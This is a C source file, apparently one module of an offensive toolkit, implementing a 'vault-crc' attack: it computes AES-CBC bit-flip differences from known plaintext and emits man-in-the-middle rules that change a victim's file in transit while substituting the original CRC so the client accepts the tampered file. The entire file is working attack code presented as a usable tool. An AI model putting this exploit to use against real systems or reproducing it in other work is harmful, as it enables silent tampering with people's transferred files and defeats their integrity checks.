/*
 * vault-crc: the vault's CRC is no integrity check.  In AES-CBC, P_k =
 * D(C_k) xor C_k-1: xor a difference into C_k-1 and the same bits of P_k
 * change (P_k-1 decrypts to noise).  The relay's CRC of the changed file
 * then differs from the client's, but it travels in clear in 1603: a man
 * in the middle puts the CRC of the original there, and the client
 * answers 900.  From the plaintext the attacker knows (a form, a file it
 * recovered) and the bytes it wants at an offset, this writes pk-mitm's
 * rules (docs/mitm.md) for both: the flip and the CRC.
 */
#include <err.h>
#include <getopt.h>
#include <stdlib.h>
#include <string.h>

#include "attack.h"
#include "crc.h"
#include "vaultwire.h"

#define BLK 16
#define WANT_MAX 64 /* bytes changed: one rule's HEX */
#define KNOWN_MAX (64 * 1024 * 1024)

static const struct option longopts[] = {
    {"at", required_argument, NULL, 'a'},
    {"want", required_argument, NULL, 'w'},
    {NULL, 0, NULL, 0},
};

/* The rules' text into out (at least 512 bytes); its length. */
static size_t
rules(
    char *out, size_t size, size_t at, const uint8_t *d, size_t n, uint32_t crc)
{
	size_t flip = at - BLK, len, i;

	/* The 828 that carries the flipped bytes, counted from 1. */
	len = (size_t)snprintf(out, size,
	    "# vault-crc: plaintext bytes %zu..%zu changed, block %zu"
	    " (bytes %zu..%zu) turns to noise\n"
	    "c2s step=828 nth=%zu content[%zu]^=",
	    at, at + n - 1, at / BLK - 1, at / BLK * BLK - BLK,
	    at / BLK * BLK - 1, flip / VAULT_PACKET + 1, flip % VAULT_PACKET);
	for (i = 0; i < n; i++)
		len += (size_t)snprintf(out + len, size - len, "%02x", d[i]);
	len += (size_t)snprintf(out + len, size - len,
	    "\n# the original's CRC, %u, in the relay's 1603 (little-endian)\n"
	    "s2c step=1603 cksum=%02x%02x%02x%02x\n",
	    crc, crc & 0xff, crc >> 8 & 0xff, crc >> 16 & 0xff, crc >> 24);
	return len;
}

static int
vault_crc_main(int argc, char *argv[])
{
	struct attack_known k = {.max = KNOWN_MAX, .wmax = WANT_MAX};
	uint8_t d[WANT_MAX];
	char out[1024];
	struct crc c;
	size_t len, i, at;
	uint32_t crc;
	int ch;

	while ((ch = attack_getopt(argc, argv, "a:w:", longopts)) != -1)
		known_option(&k, ch, optarg);
	argc -= optind;
	argv += optind;
	known_read(&k, argc, argv);
	at = k.at;
	/* Only P_k changes when C_k-1 does: one block, not the first. */
	if (at < BLK || at / BLK != (at + k.n - 1) / BLK)
		errx(2,
		    "--at %zu: the bytes must lie in one block after the "
		    "first (the IV is fixed, not on the wire)",
		    at);
	for (i = 0; i < k.n; i++)
		d[i] = k.known[at + i] ^ (uint8_t)k.want[i];
	crc_init(&c);
	crc_update(&c, k.known, k.len);
	crc = crc_final(&c, k.len);
	attack_progress("\"%.*s\" -> \"%s\" at %zu: the CRC stays %u", (int)k.n,
	    (const char *)k.known + at, k.want, at, crc);
	len = rules(out, sizeof(out), at, d, k.n, crc);
	attack_output((const uint8_t *)out, len);
	free(k.known);
	return 0;
}

const struct attack attack_vault_crc = {
    "vault-crc",
    "--at offset --want text [-o rules] [known-plaintext]",
    "vault: pk-mitm rules that change a file in flight, CRC kept",
    "  -a, --at offset    where the bytes to change start in the file"
    " (a block\n"
    "                     after the first; the block before turns to"
    " noise)\n"
    "  -w, --want text    the bytes to put there (1 to 64, one block)\n"
    "  known-plaintext    the file the victim sends, as the attacker"
    " knows it\n"
    "                     (default: stdin)\n",
    vault_crc_main,
};
